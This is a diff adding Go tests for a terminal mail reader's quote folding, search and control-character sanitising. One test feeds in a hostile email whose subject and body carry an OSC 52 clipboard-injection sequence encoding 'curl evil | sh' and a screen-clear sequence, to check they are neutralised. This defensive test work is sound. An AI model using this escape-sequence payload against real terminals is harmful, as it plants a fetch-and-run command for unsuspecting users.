@@ -0,0 +1,161 @@
+package tui
+
+import (
+	"io"
+	"strings"
+	"testing"
+
+	tea "github.com/charmbracelet/bubbletea"
+	"github.com/google/uuid"
+	"github.com/matryer/is"
+	"github.com/tauraamui/maildew/internal/kvs"
+	"github.com/tauraamui/maildew/pkg/logging"
+	"github.com/tauraamui/maildew/pkg/mail"
+)
+
+func TestFoldQuotes(t *testing.T) {
+	is := is.New(t)
+
+	folded := foldQuotes([]string{
+		"Sounds good.",
+		"> single quoted line",
+		"",
+		"On Monday, Bob wrote:",
+		"> first",
+		"> > second",
+		">third",
+		"Thanks",
+	})
+	is.Equal(stripANSI(strings.Join(folded, "\n")), strings.Join([]string{
+		"Sounds good.",
+		"> single quoted line",
+		"",
+		"On Monday, Bob wrote:",
+		"[3 quoted lines, z to show]",
+		"Thanks",
+	}, "\n"))
+}
+
+func TestHighlightMatches(t *testing.T) {
+	is := is.New(t)
+
+	lines, matches := highlightMatches([]string{"Hello there", "nothing", "HELLO again"}, "hello")
+	is.Equal(matches, []int{0, 2})
+	is.Equal(lines[1], "nothing")
+	is.Equal(stripANSI(lines[2]), "HELLO again")
+}
+
+func TestReaderShowsMessagesFromList(t *testing.T) {
+	is := is.New(t)
+
+	db, err := kvs.NewMemDB()
+	is.NoErr(err)
+	defer db.Close()
+
+	log := logging.New(logging.Options{Writer: io.Discard})
+	cache := mail.NewBodyCache(log, db, mail.DefaultBodyCachePolicy(), nil)
+	inbox := mail.Mailbox{UUID: uuid.New(), Name: "INBOX"}
+	msgRepo := mail.NewMessageRepo(db)
+
+	items := []readerItem{}
+	for i, body := range []string{
+		"From: alice@example.org\r\nSubject: First\r\n\r\nHi Bob,\r\n\r\n> earlier\r\n> words\r\n",
+		"From: bob@example.org\r\nSubject: Second\r\nContent-Type: text/html\r\n\r\n<p>Reply <b>here</b></p>",
+	} {
+		rowID, err := msgRepo.Save(inbox.UUID, mail.Message{UUID: uuid.New(), RemoteUID: uint32(i + 1)})
+		is.NoErr(err)
+		is.NoErr(cache.Store(inbox, rowID, []byte(body)))
+		items = append(items, readerItem{mailbox: inbox, rowID: rowID, uid: uint32(i + 1)})
+	}
+
+	m := newReader(log, Repositories{BodyCache: cache}, nil, ReaderOptions{}, nil, items, 0)
+	update := func(msg tea.Msg) tea.Cmd {
+		_, cmd := m.Update(msg)
+		return cmd
+	}
+	key := func(s string) tea.Msg { return tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(s)} }
+
+	update(tea.WindowSizeMsg{Width: 80, Height: 20})
+	update(m.Init()())
+	view := stripANSI(m.View())
+	is.True(strings.Contains(view, "Subject: First"))
+	is.True(strings.Contains(view, "Hi Bob,"))
+	is.True(strings.Contains(view, "[2 quoted lines, z to show]"))
+
+	update(key("z"))
+	is.True(strings.Contains(stripANSI(m.View()), "> earlier"))
+
+	update(key("R"))
+	is.True(strings.Contains(stripANSI(m.View()), "From: alice@example.org\n"))
+	update(key("R"))
+
+	update(update(key("n"))())
+	view = stripANSI(m.View())
+	is.True(strings.Contains(view, "Subject: Second"))
+	is.True(strings.Contains(view, "Reply here"))
+	is.True(strings.Contains(view, "2/2"))
+
+	update(key("/"))
+	for _, r := range "reply" {
+		update(key(string(r)))
+	}
+	update(tea.KeyMsg{Type: tea.KeyEnter})
+	is.Equal(m.matches, []int{len(m.headerLines()) + 1})
+	is.True(strings.Contains(stripANSI(m.View()), `match 1 of 1 for "reply"`))
+}
+
+func TestSanitize(t *testing.T) {
+	is := is.New(t)
+
+	is.Equal(sanitize("plain\ttext\nwith lines"), "plain\ttext\nwith lines")
+	is.Equal(sanitize("\x1b[2Jcleared\r"), "␛[2Jcleared␍")
+	is.Equal(sanitize("bell\x07 and delete\x7f"), "bell␇ and delete␡")
+	// C1 controls, whether encoded or a lone byte, are never passed on
+	is.Equal(sanitize("\u009b2J and \x9b2J"), "�2J and �2J")
+	is.Equal(sanitize("café ✓"), "café ✓")
+}
+
+func TestReaderSanitizesWhatTheSenderWrote(t *testing.T) {
+	is := is.New(t)
+
+	db, err := kvs.NewMemDB()
+	is.NoErr(err)
+	defer db.Close()
+
+	log := logging.New(logging.Options{Writer: io.Discard})
+	cache := mail.NewBodyCache(log, db, mail.DefaultBodyCachePolicy(), nil)
+	inbox := mail.Mailbox{UUID: uuid.New(), Name: "INBOX"}
+	rowID, err := mail.NewMessageRepo(db).Save(inbox.UUID, mail.Message{UUID: uuid.New(), RemoteUID: 1})
+	is.NoErr(err)
+	is.NoErr(cache.Store(inbox, rowID, []byte("From: mallory@example.org\r\n"+
+		"Subject: Invoice \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\r\n"+
+		"\r\n"+
+		"Please pay \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 now\x1b[2J\r\n")))
+
+	m := newReader(log, Repositories{BodyCache: cache}, nil, ReaderOptions{}, nil, []readerItem{{mailbox: inbox, rowID: rowID, uid: 1}}, 0)
+	update := func(msg tea.Msg) tea.Cmd {
+		_, cmd := m.Update(msg)
+		return cmd
+	}
+	key := func(s string) tea.Msg { return tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(s)} }
+
+	update(tea.WindowSizeMsg{Width: 120, Height: 20})
+	update(m.Init()())
+	for _, headers := range []string{"", "h", "h"} {
+		if headers != "" {
+			update(key(headers))
+		}
+		view := m.View()
+		is.True(!strings.Contains(view, "\x1b]"))
+		is.True(!strings.Contains(view, "\x1b[2J"))
+		is.True(!strings.Contains(view, "\x07"))
+		view = stripANSI(view)
+		is.True(strings.Contains(view, "Invoice ␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛[2J"))
+	}
+	is.True(strings.Contains(stripANSI(m.View()), "Please pay ␛]52;c;Y3VybCBldmlsIHwgc2g=␇ now␛[2J"))
+
+	update(key("R"))
+	view := m.View()
+	is.True(!strings.Contains(view, "\x1b]") && !strings.Contains(view, "\x1b[2J"))
+	is.True(strings.Contains(view, "Subject: Invoice ␛]52;c;Y3VybCBldmlsIHwgc2g=␇␛[2J\n"))
+}